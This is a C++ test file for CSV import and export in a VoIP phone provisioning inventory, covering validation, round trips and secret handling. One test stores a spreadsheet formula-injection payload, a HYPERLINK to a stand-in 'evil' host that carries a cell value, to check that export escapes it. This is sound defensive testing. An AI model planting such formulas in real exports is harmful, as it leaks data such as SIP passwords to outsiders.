// Inventory CSV import/export against a real (in-memory) store.

#include <catch2/catch.hpp>

#include "fakes/inventory_fixture.h"
#include "provisioner/inventory/inventory.h"
#include "provisioner/store/sqlite_store.h"
#include "provisioner/tls/crypto.h"

using namespace prov;

namespace {

struct Fixture : testing::InventoryFixture {  // Yealink T31, 2 lines
    using InventoryFixture::InventoryFixture;
};

const std::string kHeader = "mac,make,model,label,extension,device_type,callerid_name,voicemail_enabled,voicemail_pin,phone_reg,buttons\n";
const std::string kGood = kHeader +
                          "00:15:65:00:00:01,Yealink,T31,HQ,201,SIP,Alice,yes,1234,1,2:blf:202:Bob\n"
                          "00:15:65:00:00:01,Yealink,T31,HQ,202,SIP-VIRTUAL,Bob,no,,2,\n"
                          "001565000002,yealink,t31,Annex,,,,,,,\n"
                          ",,,,300,VIRTUAL,Conference,no,,,\n";

bool hasProblem(const ImportReport& r, size_t line, const std::string& column) {
    for (const auto& p : r.problems) {
        if (p.line == line && p.column == column) return true;
    }
    return false;
}

}  // namespace

TEST_CASE("import: devices and extensions created, bound, staged, models as the catalog spells them") {
    Fixture f;
    auto r = f.import(kGood);
    REQUIRE(r.problems.empty());
    CHECK(r.extensions.created == 3);
    CHECK(r.devices.created == 2);
    auto d1 = f.inv->getDevice("001565000001").value();
    CHECK(d1.state == DeviceState::kStaged);
    CHECK(d1.label == "HQ");
    auto d2 = f.inv->getDevice("001565000002").value();
    CHECK(d2.state == DeviceState::kNew);
    CHECK(d2.make == "Yealink");
    CHECK(d2.model == "T31");
    auto e = f.inv->getExtension("202").value();
    CHECK(e.mac == "001565000001");
    CHECK(e.phone_reg == 2);
    CHECK(e.secret.size() >= 20);
    auto b = f.inv->getButtons("201").value();
    REQUIRE(b.size() == 1);
    CHECK(b[0].type == "blf");
    CHECK(b[0].value == "202");
    CHECK(b[0].label == "Bob");
}

TEST_CASE("import: the same file again changes nothing, a changed field changes one") {
    Fixture f;
    f.import(kGood);
    const auto audits = f.inv->listAudit({}, {}).value().total;
    auto again = f.import(kGood);
    CHECK(again.problems.empty());
    CHECK(again.extensions.created + again.extensions.changed == 0);
    CHECK(again.extensions.unchanged == 3);
    CHECK(again.devices.unchanged == 2);
    CHECK(f.inv->listAudit({}, {}).value().total == audits);  // nothing changed, nothing audited
    std::string edited = kGood;
    edited.replace(edited.find("Alice"), 5, "Alicia");
    auto one = f.import(edited);
    CHECK(one.extensions.changed == 1);
    CHECK(f.inv->getExtension("201").value().callerid_name == "Alicia");
}

TEST_CASE("import: a dry run reports and stores nothing") {
    Fixture f;
    auto r = f.import(kGood, true);
    CHECK(r.dry_run);
    CHECK(r.extensions.created == 3);
    CHECK(f.extensions() == 0);
    CHECK(f.devices() == 0);
}

TEST_CASE("import: every bad row is reported with its line and column, and nothing is stored") {
    Fixture f;
    const std::string bad = kHeader +
                            "zz:15:65:00:00:01,Yealink,T31,HQ,201,SIP,Alice,no,,1,\n"        // 2 mac
                            "001565000003,Yealink,T99,HQ,203,SIP,Carol,no,,1,\n"             // 3 model
                            "001565000004,Acme,X1,HQ,204,SIP,Dan,no,,1,\n"                   // 4 make
                            "001565000005,Yealink,T31,HQ,205,SIP,Eve,yes,12a4,1,\n"          // 5 voicemail_pin
                            "001565000006,Yealink,T31,HQ,206,SIP,Fay,no,,3,\n"               // 6 phone_reg (2 lines)
                            "001565000007,Yealink,T31,HQ,205,SIP,Gus,no,,1,\n"               // 7 extension twice
                            "001565000008,Yealink,T31,HQ,208,SIP-VIRTUAL,Hal,no,,1,\n"       // 8 no primary
                            "001565000009,Yealink,T31,HQ,209,SIP,Ida,no,,1,9:blf::x\n"       // 9 buttons
                            "001565000010,Yealink,T31,HQ,210,SIP,Jo,no,,1\n";                // 10 column count
    auto r = f.import(bad);
    CHECK(hasProblem(r, 2, "mac"));
    CHECK(hasProblem(r, 3, "model"));
    CHECK(hasProblem(r, 4, "make"));
    CHECK(hasProblem(r, 5, "voicemail_pin"));
    CHECK(hasProblem(r, 6, "phone_reg"));
    CHECK(hasProblem(r, 7, "extension"));
    CHECK(hasProblem(r, 8, "device_type"));
    CHECK(hasProblem(r, 9, "buttons"));
    CHECK(hasProblem(r, 10, ""));
    CHECK(f.extensions() == 0);
    CHECK(f.devices() == 0);
}

TEST_CASE("import: a licence overflow part-way names every row past the limit") {
    Fixture f(2);
    auto r = f.import("extension,callerid_name\n1,A\n2,B\n3,C\n4,D\n");
    REQUIRE(r.problems.size() == 2);
    CHECK(hasProblem(r, 4, "device_type"));
    CHECK(hasProblem(r, 5, "device_type"));
    CHECK(f.extensions() == 0);
}

TEST_CASE("import: a line taken in the store by an extension the file does not move") {
    Fixture f;
    Extension e;
    e.extension = "100";
    e.callerid_name = "Existing";
    e.mac = "001565000001";
    e.phone_reg = 1;
    REQUIRE(f.inv->createExtension(e, f.admin));
    auto r = f.import("mac,extension,callerid_name,phone_reg\n001565000001,101,New,1\n");
    CHECK(hasProblem(r, 2, "phone_reg"));
}

TEST_CASE("import: a file of the wrong shape is one error") {
    Fixture f;
    CHECK_FALSE(f.inv->importCsv("", {}, f.admin));
    CHECK_FALSE(f.inv->importCsv("mac,extension\n", {}, f.admin));
    auto unknown = f.inv->importCsv("mac,colour\n001565000001,red\n", {}, f.admin);
    REQUIRE_FALSE(unknown);
    CHECK(unknown.error().message.find("'colour'") != std::string::npos);
    CHECK_FALSE(f.inv->importCsv("mac,mac\n1,2\n", {}, f.admin));
    CHECK_FALSE(f.inv->importCsv("name,number\nx,1\n", {}, f.admin));
}

TEST_CASE("export: import into an empty store and export again gives the same bytes") {
    Fixture a;
    a.import(kGood);
    auto first = a.inv->exportCsv(false);
    REQUIRE(first);
    CHECK(first.value().find("secret") == std::string::npos);
    CHECK(first.value().rfind("mac,make,model,serial,label,expansion_model,expansion_count,extension", 0) == 0);
    Fixture b;
    auto r = b.import(first.value());
    REQUIRE(r.problems.empty());
    auto second = b.inv->exportCsv(false);
    REQUIRE(second);
    CHECK(second.value() == first.value());
    // With secrets, the SIP passwords travel too.
    auto with = a.inv->exportCsv(true);
    Fixture c;
    c.import(with.value());
    CHECK(c.inv->getExtension("201").value().secret == a.inv->getExtension("201").value().secret);
}

TEST_CASE("export: cells that start like a formula get a leading quote, which the import takes off") {
    Fixture a;
    Device d;
    d.mac = "001565000009";
    d.label = "=HYPERLINK(\"http://evil/?\"&V2)";
    d.serial = "'s-Hertogenbosch";
    REQUIRE(a.inv->createDevice(d, a.admin));
    Extension e;
    e.extension = "401";
    e.callerid_name = "'=1+1";  // already starts with a quote: gets one more
    e.user = "@SUM(1)";
    e.did = "+4930123456";      // a phone number: as it is
    e.twinning_number = "+1*2"; // not only digits: escaped
    e.secret = "-abcdefgh1";
    e.mac = d.mac;
    REQUIRE(a.inv->createExtension(e, a.admin));
    auto out = a.inv->exportCsv(true);
    REQUIRE(out);
    const std::string& csv = out.value();
    CHECK(csv.find("\"'=HYPERLINK(\"\"http://evil/?\"\"&V2)\"") != std::string::npos);
    CHECK(csv.find(",'s-Hertogenbosch,") != std::string::npos);
    CHECK(csv.find(",''=1+1,'@SUM(1),") != std::string::npos);
    CHECK(csv.find(",+4930123456,'+1*2,") != std::string::npos);
    CHECK(csv.find(",'-abcdefgh1\r\n") != std::string::npos);
    // Back into an empty store: the values as they were, and the same bytes out.
    Fixture b;
    REQUIRE(b.import(csv).problems.empty());
    const Device back = b.inv->getDevice(d.mac).value();
    CHECK(back.label == d.label);
    CHECK(back.serial == d.serial);
    const Extension ext = b.inv->getExtension("401").value();
    CHECK(ext.callerid_name == e.callerid_name);
    CHECK(ext.user == e.user);
    CHECK(ext.did == e.did);
    CHECK(ext.twinning_number == e.twinning_number);
    CHECK(ext.secret == e.secret);
    CHECK(b.inv->exportCsv(true).value() == csv);
    // And over its own store, the file changes nothing.
    const ImportReport again = a.import(csv);
    CHECK(again.extensions.unchanged == 1);
    CHECK(again.devices.unchanged == 1);
}

TEST_CASE("import: a device row that changes the model must still hold the lines bound to it") {
    Fixture f;
    // A phone of no known model carries three lines...
    auto first = f.import("mac,extension,callerid_name,phone_reg\n"
                          "00:15:65:00:00:09,301,A,1\n00:15:65:00:00:09,302,B,2\n00:15:65:00:00:09,303,C,3\n");
    REQUIRE(first.problems.empty());
    // ...and a file that only says it is a T31 (2 lines) is refused at the model.
    auto bad = f.import("mac,make,model\n00:15:65:00:00:09,Yealink,T31\n");
    CHECK(hasProblem(bad, 2, "model"));
    CHECK(f.inv->getDevice("001565000009").value().model.empty());
}
